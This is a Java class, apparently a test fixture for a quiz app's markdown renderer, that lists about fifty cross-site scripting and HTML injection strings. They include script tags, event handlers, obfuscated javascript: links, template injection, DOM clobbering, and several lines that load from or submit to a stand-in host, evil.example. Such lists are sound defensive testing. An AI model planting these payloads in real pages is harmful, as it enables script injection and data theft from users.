package org.ackademy.quiz.markdown;

import java.util.List;

/** What somebody might write in place of a question's text, so that it runs where it is read. */
public final class Attacks {
  private static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x></sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "![x](javascript:alert(1))",
          "![x](https://evil.example/track.png)",
          "[x](javascript:alert(1))",
          "[x](JaVaScRiPt:alert(1))",
          "[x](&#106;avascript:alert(1))",
          "[x](java\nscript:alert(1))",
          "[x](\u0001javascript:alert(1))",
          "[x](data:text/html;base64,PHNjcmlwdD4=)",
          "[x](vbscript:msgbox)",
          "[x](file:///etc/passwd)",
          "[x](//evil.example)",
          "[x](/api/v1/me)",
          "[x](http://plain.example)",
          "[x](https://a.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
          "[x]: javascript:alert(1)\n\n[x]",
          "<javascript:alert(1)>",
          "<https://a.example/\"onmouseover=\"alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
          "<style>*{background:url(//evil.example)}</style>",
          "<p style=\"position:fixed\">over all</p>",
          "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><script>alert(1)</script></template>",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?php echo 1 ?>",
          "<x-element>",
          "`<script>alert(1)</script>`",
          "```\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
          "```html onload=alert(1)\n<b>\n```",
          "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
          "# <script>alert(1)</script>",
          "**<b onmouseover=alert(1)>**",
          "> - 1. <object data=javascript:alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "{{constructor.constructor('alert(1)')()}}",
          "\uD800<script>\uDC00alert(1)</script>",
          "\u0000<scr\u0000ipt>alert(1)</script>",
          "\uFEFF<script>alert(1)</script>",
          "\u202E<script>\u202C",
          "<base href=//evil.example><form action=//evil.example><input>",
          "<div id=\"main\" name=\"location\">clobbered</div>");

  private Attacks() {}

  public static List<String> texts() {
    return TEXTS;
  }
}
